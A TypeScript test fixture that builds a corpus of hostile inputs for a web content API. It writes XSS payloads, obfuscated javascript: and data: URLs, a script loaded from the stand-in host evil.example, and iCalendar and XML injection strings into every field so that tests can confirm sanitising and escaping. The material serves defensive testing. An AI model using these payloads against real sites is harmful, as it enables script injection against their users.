// The hostile corpus: text an attacker (or a careless paste) could send as content, and the writes that put it
// through the editorial API into every text field that reaches an output. Shared by the api project (feeds,
// iCalendar, JSON-LD, pages, sitemap, oEmbed: tests/api/hostile-outputs.test.ts), the widgets project (every
// element and page in Chromium: tests/widgets/hostile-*.test.ts, content written by tests/widgets/global-setup.ts)
// and the sanitiser's own test (tests/api/editorial-analyses-xss.test.ts). It imports nothing, so it runs in
// workerd, in Node and in the browser alike.
//
// Every payload that would run script calls alert(), so a page that hooks alert() (and confirm(), prompt(), print())
// knows if anything ran.

/** HTML written as rich text (analysis section bodies): what the sanitiser must disarm. */
export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<a href="https://socius.be" onmouseover="alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<blockquote><p><a href="javas<script></script>cript:alert(1)">nested</a></p></blockquote>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<a href="https://evil.example" rel="opener">keeps opener?</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">entities</a>',
  '<p>]]><![CDATA[<script>alert(1)</script>]]></p>',
  '<p>\r\nATTENDEE:mailto:evil@example.org</p>',
];

/** The same, written as Markdown. */
export const MARKDOWN_PAYLOADS = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](&#106;avascript:alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  'Text <script>alert(1)</script> in markdown',
  'Text <img src=x onerror=alert(1)> in markdown',
  '<svg onload=alert(1)></svg>',
  '> quote with <a href="javascript:alert(1)">link</a>',
  '**bold [x](vbscript:msgbox(1))**',
  '[x](java\tscript:alert(1))',
  '[x](//evil.example/x)',
];

/**
 * Plain text (titles, summaries, names, venue, organiser, …): every one must come out of every output as the
 * same text, shown literally, never as markup, never as a new line of a line-based format.
 */
export const TEXT_PAYLOADS = [
  // Markup and script, as plain text.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder is the payload, not a mistake
  '${alert(1)}',
  // JSON-LD and inline-script breakers.
  '</script><script>alert(1)</script>',
  '</SCRIPT ><!--<script>',
  'line\u2028separator\u2029paragraph',
  // iCalendar (CRLF) injection.
  'a\r\nATTENDEE:mailto:evil@example.org',
  'b\nBEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT',
  'c\rX-INJECTED:1',
  'd;e,f\\g:"h"',
  // XML breakers: CDATA ends, entities, control characters and lone surrogates.
  ']]><injected/>',
  '<![CDATA[x]]>',
  '&amp; &unknown; &#0;',
  'ctl\u0001\u0008\u000b\u000c\u001b\u007f',
  'lone\ud800surrogate\udfff',
  'nonchar\ufffe\uffff',
  'rtl\u202eevil',
  // URL tricks, as text.
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '//evil.example/x',
  'data:text/html,<script>alert(1)</script>',
];

/**
 * Absolute http(s) URLs the API accepts, each built to break out of an attribute, a script block, an XML text or
 * a line of iCalendar if it were written unescaped.
 */
export const URL_PAYLOADS = [
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'><script>alert(1)</script>",
  'https://evil.example/</script><script>alert(1)</script>',
  'https://evil.example/?a=1&b=<x>]]>',
  'https://evil.example/;ATTENDEE:x,y\\z',
];

/** URLs the API must refuse in every URL field (422): schemes other than http(s), and relative references. */
export const REFUSED_URLS = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  '/relative',
];

/** Packs `texts` into as few strings of at most `max` characters as it can, joined by a space. */
function pack(texts: readonly string[], max: number): string[] {
  const packs: string[] = [];
  let current = '';
  for (const text of texts) {
    const next = current ? `${current} ${text}` : text;
    if (next.length > max && current) {
      packs.push(current);
      current = text;
    } else current = next;
  }
  if (current) packs.push(current);
  return packs;
}

/** Every plain-text payload, packed for fields of at most 180 characters (names, titles, venue, organiser). */
export const TEXT_CHUNKS = pack(TEXT_PAYLOADS, 180);
/** How many items of each kind are written: one per chunk, so each short field sees every payload once. */
export const ITEM_COUNT = TEXT_CHUNKS.length;
/** Every plain-text payload in one text (for the long fields: summaries, descriptions, about texts). */
export const ALL_TEXT = TEXT_PAYLOADS.join('\n');
/** Rich text: every HTML payload, then the Markdown ones in a section of their own. */
export const ALL_HTML = HTML_PAYLOADS.join('\n');
export const ALL_MARKDOWN = MARKDOWN_PAYLOADS.join('\n\n');

const chunk = (k: number) => TEXT_CHUNKS[k % ITEM_COUNT] ?? '';
/** The item's title: its chunk after a recognisable prefix (the slug is given, so the title need not make one). */
export const hostileTitle = (kind: string, k: number) => `H${k} ${kind} ${chunk(k)}`;
const url = (k: number) => URL_PAYLOADS[k % URL_PAYLOADS.length] ?? 'https://evil.example/';
const short = (k: number, max: number) => (TEXT_PAYLOADS.filter((t) => t.length <= max)[k % 10] ?? 'x').trim() || 'x';

export const HOSTILE_TOPIC = (k: number) => `hostile-topic-${k}`;
export const HOSTILE_SERVICE = (k: number) => `hostile-service-${k}`;
export const HOSTILE_ANALYSIS = (k: number) => `hostile-analysis-${k}`;
export const HOSTILE_EVENT = (k: number) => `hostile-event-${k}`;

const indices = () => Array.from({ length: ITEM_COUNT }, (_, k) => k);

/** Every language gets hostile text, so whichever language an output serves, it serves the corpus. */
function texts<F extends string>(fields: Record<F, string>): Record<'nl' | 'en' | 'fr', Record<F, string>> {
  return { nl: fields, en: fields, fr: fields };
}

export function topicBody(k: number) {
  return {
    slug: HOSTILE_TOPIC(k),
    status: 'published',
    position: 1000 + k,
    translations: texts({ name: hostileTitle('topic', k), description: ALL_TEXT.slice(0, 2000) }),
  };
}

export function serviceBody(k: number) {
  return {
    slug: HOSTILE_SERVICE(k),
    status: 'published',
    format: 'training',
    position: 1000 + k,
    url: url(k),
    contactEmail: 'hostile@evil.example',
    topics: [HOSTILE_TOPIC(k)],
    translations: texts({
      title: hostileTitle('service', k),
      summary: chunk(k),
      description: ALL_TEXT,
      audience: chunk(k + 1),
    }),
  };
}

export function analysisBody(k: number) {
  return {
    slug: HOSTILE_ANALYSIS(k),
    status: 'published',
    // Before the seed's analyses, so lists that show the newest first still show the seed's on top.
    publishedAt: `2020-01-${String(1 + (k % 28)).padStart(2, '0')}T10:00:00+01:00`,
    canonicalUrl: url(k),
    topics: [HOSTILE_TOPIC(k)],
    authors: [{ name: chunk(k + 1), affiliation: chunk(k + 2) }],
    translations: texts({ title: hostileTitle('analysis', k), summary: ALL_TEXT }),
    sections: [
      { anchor: 'html', format: 'html', translations: texts({ heading: chunk(k), body: ALL_HTML }) },
      { anchor: 'markdown', format: 'markdown', translations: texts({ heading: chunk(k + 3), body: ALL_MARKDOWN }) },
      { anchor: 'plain', format: 'html', translations: texts({ heading: chunk(k + 4), body: ALL_TEXT }) },
    ],
    attachments: [{ lang: 'nl', title: chunk(k + 5), url: url(k + 1), mediaType: 'application/pdf', byteSize: 1024 }],
  };
}

/** Sessions a year ahead, so the events stay upcoming (and in the calendar feed) whenever the suite runs. */
function sessionsOf(k: number) {
  const start = new Date(Date.now() + (200 + k) * 86_400_000);
  start.setUTCHours(9, 0, 0, 0);
  return [{ startsAt: start.toISOString(), endsAt: new Date(start.getTime() + 2 * 3_600_000).toISOString() }];
}

export function eventBody(k: number) {
  return {
    slug: HOSTILE_EVENT(k),
    status: 'published',
    attendanceMode: 'mixed',
    sessions: sessionsOf(k),
    venue: { name: chunk(k), street: chunk(k + 1), postalCode: short(k, 20), city: short(k + 1, 100), country: 'BE' },
    onlineUrl: url(k),
    organiser: { name: chunk(k + 2), url: url(k + 1) },
    price: { free: false, amountCents: 1500 },
    registration: { url: url(k + 2), availability: 'available' },
    topics: [HOSTILE_TOPIC(k)],
    translations: texts({
      title: hostileTitle('event', k),
      summary: ALL_TEXT.slice(0, 2000),
      description: ALL_TEXT,
      audience: chunk(k + 3),
      accessibility: chunk(k + 4),
      priceNote: chunk(k + 5),
    }),
  };
}

export function aboutBody() {
  return {
    slug: 'socius',
    status: 'published',
    email: 'hostile@evil.example',
    phone: short(0, 50),
    website: url(0),
    street: chunk(0),
    postalCode: short(1, 20),
    city: short(2, 100),
    country: 'BE',
    socialLinks: URL_PAYLOADS.map((u, i) => ({ network: short(i, 50), url: u })),
    translations: texts({
      name: `Socius ${chunk(1)}`,
      tagline: ALL_TEXT.slice(0, 500),
      mission: ALL_TEXT,
      offer: ALL_TEXT,
      stakeholders: ALL_TEXT,
      region: chunk(2),
      subsidiser: chunk(3),
    }),
  };
}

/** Sends one request to the API and answers its status, ETag and JSON body (a plain `fetch` or workerd's `SELF.fetch`). */
export type Fetcher = (url: string, init: { method: string; headers: Record<string, string>; body?: string }) => Promise<Response>;

/**
 * Writes the whole corpus through the editorial API with `key` (scope content:publish): topics, services,
 * analyses and events (ITEM_COUNT of each, published) and, unless `about: false`, the organisation profile
 * (created, or patched when one exists). Throws with the API's answer when a write is refused, so a setup never tests less than it thinks.
 */
export async function writeHostileContent(fetcher: Fetcher, origin: string, key: string, options: { about?: boolean } = {}): Promise<void> {
  const auth = { Authorization: `Bearer ${key}` };
  const send = async (method: string, path: string, body: unknown, headers: Record<string, string> = {}) => {
    const response = await fetcher(`${origin}${path}`, {
      method,
      headers: {
        ...auth,
        'Content-Type': method === 'PATCH' ? 'application/merge-patch+json' : 'application/json',
        ...headers,
      },
      body: JSON.stringify(body),
    });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text.slice(0, 2000)}`);
    return response;
  };
  // Topics first: the others are tagged with them. Each write is one atomic batch, so they may run side by side.
  await Promise.all(indices().map((k) => send('POST', '/v1/topics', topicBody(k))));
  await Promise.all(
    indices().flatMap((k) => [
      send('POST', '/v1/services', serviceBody(k)),
      send('POST', '/v1/analyses', analysisBody(k)),
      send('POST', '/v1/events', eventBody(k)),
    ]),
  );
  if (options.about === false) return;
  const edit = await fetcher(`${origin}/v1/about/edit`, { method: 'GET', headers: auth });
  if (edit.status === 404) {
    await edit.body?.cancel();
    await send('POST', '/v1/about', aboutBody());
  } else {
    await edit.text();
    // The merge patch replaces every field the corpus writes; the profile keeps its id and slug.
    const { slug: _slug, ...patch } = aboutBody();
    await send('PATCH', '/v1/about', patch, { 'If-Match': edit.headers.get('ETag') ?? '' });
  }
}
